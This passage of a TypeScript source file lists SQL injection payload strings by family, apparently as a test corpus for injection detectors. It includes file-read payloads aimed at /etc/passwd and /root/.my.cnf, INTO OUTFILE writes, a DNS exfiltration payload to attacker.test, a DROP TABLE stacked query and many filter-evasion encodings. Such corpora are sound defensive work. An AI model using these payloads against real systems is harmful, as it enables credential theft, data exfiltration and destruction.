  [CATEGORY, "' INTO DUMPFILE '/tmp/p.bin' -- -", PATT],
  [POST, String.raw`1 AND (SELECT LOAD_FILE(CONCAT('\\\\',(SELECT pass FROM users LIMIT 1),'.attacker.test\\a')))`, PATT],
  [LOGIN, "' UNION SELECT LOAD_FILE('/root/.my.cnf'),2,3 #", PATT],
  [COMMENT, "x'), (3, 'guest', LOAD_FILE('/etc/passwd')) #", PATT_BLIND],
  [EMAIL, "x', email = LOAD_FILE('/etc/hostname') #", PATT_BLIND],
  [LOGIN_DQ, '" UNION SELECT 1 INTO OUTFILE "/tmp/out1" -- -', PATT],
  [ORDERS, "0) UNION SELECT 1,2,3,4,LOAD_FILE('/proc/self/environ') #", PATT],
  [POST, "-1 UNION SELECT 1, HEX(LOAD_FILE('/etc/mysql/my.cnf'))", PATT],
  [PRODUCT, "1 UNION SELECT name, pass FROM users INTO OUTFILE '/tmp/creds.txt' FIELDS TERMINATED BY ':' #", OWASP],
];

// ------------------------------------------------------------------ obfuscation

const OBFUSCATION: readonly Case[] = [
  // keywords split or spaced by inline comments
  [POST, '-1 UN/**/ION SEL/**/ECT 1,2', LIBINJ],
  [POST, '-1 /**/UNION/**/SELECT/**/name,pass/**/FROM/**/users', SQLMAP_TAMPER],
  [LOGIN, "'/**/OR/**/1=1#", SQLMAP_TAMPER],
  [LOGIN, "'/**/UNION/**/SELECT/**/1,2,3#", SQLMAP_TAMPER],
  [POST, '-1 /*foo*/UNION/*bar*/ALL/*baz*/SELECT/*x*/1,2', CRS],
  [POST, '-1 UNION#foo*/*bar\r\nSELECT 1,2', CRS],
  [POST, '0 div 1 union#x\nselect#y\n1,current_user', CRS],
  [CART, "'/**/OR/**/'1'/**/=/**/'1", SQLMAP_TAMPER],
  [COMMENT, "x'/**/OR/**/SLEEP(5)/**/OR/**/'", SQLMAP_TAMPER],
  [SORT, '(SELECT/**/IF(1=1,SLEEP(5),0))', SQLMAP_TAMPER],
  [POST, '1/*!AND*/(SELECT/**/1/**/FROM/**/(SELECT/**/SLEEP(5))a)', SQLMAP_TAMPER],
  // MySQL / MariaDB executable comments
  [POST, '-1 /*!UNION*/ /*!SELECT*/ 1,2', MANUAL],
  [POST, '-1 /*!50000UNION*/ /*!50000SELECT*/ 1,2', SQLMAP_TAMPER],
  [POST, '-1 /*!12345UNION*/ /*!12345ALL*/ /*!12345SELECT*/ 1,user()', CRS],
  [LOGIN, "' /*!OR*/ 1=1 #", SQLMAP_TAMPER],
  [POST, '1 /*!50000AND*/ SLEEP(5)', SQLMAP_TAMPER],
  [POST, '-1 /*M!100000UNION SELECT*/ 1,2', MANUAL],
  [LOGIN, "' /*!00000OR*/ '1'='1", CRS],
  [CATEGORY, "'/*!50000UnIoN*//*!50000SeLeCt*/1,2,3-- -", CRS],
  [SORT, '/*!50000IF*/(1=1,SLEEP(5),id)', SQLMAP_TAMPER],
  // hex, bit, CHAR() and CONCAT() encodings
  [LOGIN, "' OR name = 0x61646d696e #", PATT],
  [LOGIN, "' UNION SELECT 1,0x61646d696e,0x70617373 #", PATT],
  [POST, '-1 UNION SELECT 1,table_name FROM information_schema.tables WHERE table_schema=0x64626d6573685f74657374', PATT],
  [CATEGORY, "' OR 0x31=0x31 -- -", LIBINJ],
  [POST, '1 OR 0x50=0x50', LIBINJ],
  [LOGIN, "' OR name=CHAR(97,100,109,105,110) #", SQLMAP_TAMPER],
  [POST, '-1 UNION SELECT name,pass FROM users WHERE name=CHAR(97,100,109,105,110)', SQLMAP_TAMPER],
  [LOGIN, "' OR CHAR(49)=CHAR(49) -- -", SQLMAP_TAMPER],
  [LOGIN, "' OR name=CONCAT('ad','min') #", PATT],
  [POST, "1; SET @q=CONCAT(CHAR(68,82,79,80),' TABLE users'); PREPARE s FROM @q; EXECUTE s", PATT],
  [LOGIN, "' OR 'a' 'dmin'='admin' #", MANUAL],
  [POST, "-1 UNION SELECT 1,x'726f6f74'", MANUAL],
  [LOGIN, "' OR name = b'0110000101100100011011010110100101101110' #", MANUAL],
  [POST, '-1 UNION SELECT 1,unhex(hex(user()))', PATT],
  [POST, '-1 UNION SELECT 1,CONVERT(user() USING latin1)', PATT],
  [POST, '-1 UNION SELECT 1,CONCAT_WS(CHAR(58),name,pass) FROM users', SQLMAP_TAMPER],
  [POST, '1 AND (SELECT 1 FROM users WHERE name LIKE 0x61646d25)', PATT],
  [LOGIN, "' OR name IN (0x61646d696e) #", PATT],
  [POST, '-1 UNION SELECT 1,`pass` FROM `users`', LIBINJ],
  // URL-decoded forms (%09, %0a, %0b, %0c, %0d, %23, %a0, %00 decoded by the web framework)
  [LOGIN, "'\tOR\t1=1#", CRS],
  [LOGIN, "'\nOR\n1=1--\n", CRS],
  [POST, '-1\u000bUNION\u000bSELECT\u000b1,2', CRS],
  [POST, '1\fOR\f1=1', CRS],
  [POST, '-1\u00a0UNION\u00a0SELECT 1,2', CRS],
  [LOGIN, "'\rOR\r'1'='1", CRS],
  [POST, '-1\r\nUNION\r\nSELECT\r\n1,\r\n2', CRS],
  [LOGIN, "'\nUNION\nSELECT\n1,2,3#", CRS],
  [SEARCH, "%'/**/UnIoN/**/SeLeCt/**/1,2,3/**/#", CRS],
  [LOGIN, "' OR 1=1;\u0000", PATT],
  // '+' for space left undecoded by an application that only decodes %XX
  [POST, '-1+UNION+SELECT+1,2', LIBINJ],
  // whitespace variants and whitespace-free forms
  [POST, '-1\tUNION\tSELECT\t1,2', SQLMAP_TAMPER],
  [LOGIN, "'\t\tOR\t\t'x'='x", SQLMAP_TAMPER],
  [POST, '1\nAND\nSLEEP(5)', SQLMAP_TAMPER],
  [POST, '-1 UNION(SELECT(1),(2))', PATT],
  [LOGIN, "'OR(1)=(1)#", PATT],
  [POST, '-1e0UNION SELECT 1,2', PATT],
  [POST, '-1.0UNION SELECT 1,2', PATT],
  [POST, '1  OR   1  =  1', LIBINJ],
  // mixed case
  [POST, '-1 uNiOn aLL sElEcT 1,2', SQLMAP_TAMPER],
  [LOGIN, "' oR 1=1 #", SQLMAP_TAMPER],
  [LOGIN, "' UnIoN SeLeCt NuLl,NuLl,NuLl -- -", SQLMAP_TAMPER],
  [POST, '1 AnD sLeEp(5)', SQLMAP_TAMPER],
  // operators instead of keywords, keyword-free substring
  [LOGIN, "'||'1'='1", PATT],
  [LOGIN, "'||1=1#", PATT],
  [POST, "1 && SUBSTR(user(),1,1)='r'", PATT],
  [POST, "1 AND MID(VERSION() FROM 1 FOR 1)='1'", PATT],
  // quote-escaping bypasses
  [LOGIN, "\\' OR 1=1 #", PATT],
  [LOGIN_BACKSLASH, ' OR 1=1 #', PATT_AUTH],
  [LOGIN_BACKSLASH, ' UNION SELECT 1,2,3 -- -', PATT_AUTH],
  [LOGIN, "' OR name = _latin1'admin' COLLATE latin1_bin #", MANUAL],
];

// ------------------------------------------------------------------ export

export const SQLI_STATEMENTS: readonly SqliStatement[] = Object.freeze([
  ...family('tautology', TAUTOLOGY),
  ...family('union', UNION),
  ...family('stacked', STACKED),
  ...family('comment-truncation', COMMENT_TRUNCATION),
  ...family('time-blind', TIME_BLIND),
  ...family('error-based', ERROR_BASED),
  ...family('boolean-blind', BOOLEAN_BLIND),
  ...family('file-access', FILE_ACCESS),
  ...family('obfuscation', OBFUSCATION),
]);
